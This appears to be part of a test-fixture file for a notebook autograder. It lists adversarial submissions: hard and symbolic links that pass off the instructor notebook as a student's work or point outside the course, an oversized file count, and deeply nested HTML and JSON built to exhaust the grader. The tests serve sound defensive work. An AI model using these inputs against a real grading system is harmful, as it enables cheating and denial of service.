    Entry("nb-hard-link", "backprop.ipynb is a hard link to the instructor notebook", _hard_link,
          problem=REFUSED + "backprop.ipynb is a hard link (its file has 2 names)"),
    Entry("student-folder-link", "submitted/<student> links to source/ (the instructor notebook is graded as "
          "theirs)", _student_folder_link, problem=REFUSED + "the student folder is a symbolic link"),
    Entry("student-folder-outside", "submitted/<student> links to a folder outside the course",
          _student_folder_outside, problem=REFUSED + "the student folder is a symbolic link"),
    Entry("assignment-folder-link", "submitted/<student>/ex09_backprop links to source/ex09_backprop",
          _assignment_folder_link, problem=REFUSED + "the assignment folder is a symbolic link"),
    Entry("too-many-files", "the correct notebook and 200 more files", _too_many_files,
          problem=REFUSED + "more than 200 files and folders"),
    Entry("nested-files", "the control: the correct notebook and an ordinary sub-folder", _nested_files, earns=ALL),
]


# ------------------------------------------------------------------------------------------------------------
# PATHOLOGICAL: what costs the grader's own process (issue 21, item 5), at test size -- the limits are what is
# tested; benchmarks/bench_pathological.py grades the full-size ones (6 MB cell, 1 MB of markup, 100,000 deep).
# Each is graded like any student (its points unchanged) and costs its student one problem line, never the class.

def _big_code_cell(ctx, folder):
    nb = ctx.notebook(ALL)
    insert_code(nb, "code-02", "table = [" + "0, " * 40_000 + "]", "big-cell")          # 117 KB
    write(folder, nb, ctx=ctx)


NESTED_MARKUP = "<div>" * 3000 + "deep" + "</div>" * 3000


def _nested_markup(ctx, folder):
    nb = ctx.notebook(ALL)
    cell = nbformat.v4.new_markdown_cell(NESTED_MARKUP)
    cell.id = "nested-markup"
    nb.cells.insert(cell_index(nb, "code-02") + 1, cell)
    insert_code(nb, "code-02", f"from IPython.display import HTML\nHTML({'<span>' * 3000 + 'deep'!r})",
                "nested-output")
    write(folder, nb, ctx=ctx)


def _deeply_nested(ctx, folder):
    text = nbformat.writes(ctx.notebook(ALL))
    deep = "[" * 100_000 + "]" * 100_000
    write(folder, raw=text.replace('"metadata": {', f'"metadata": {{"deep": {deep}, ', 1).encode(), ctx=ctx)


PATHOLOGICAL = [
    Entry("big-code-cell", "the correct answers and a 117 KB code cell (the numerics flag parsed every cell, "
          "twice: a 6 MB cell took the grader to 3.1 GB)", _big_code_cell, earns=ALL,
          problem="(over 64 KB) and was not read"),
    Entry("nested-markup", "the correct answers, a markdown cell and an HTML output nested 3000 deep (bleach "
          "is quadratic in the nesting)", _nested_markup, earns=ALL, problem="shown as plain text: cell"),
    Entry("deep-nesting", "the notebook's JSON nested 100,000 deep (RecursionError stopped `make report`)",
          _deeply_nested, problem="backprop.ipynb nests 100004 levels deep (over 100): not read"),
]
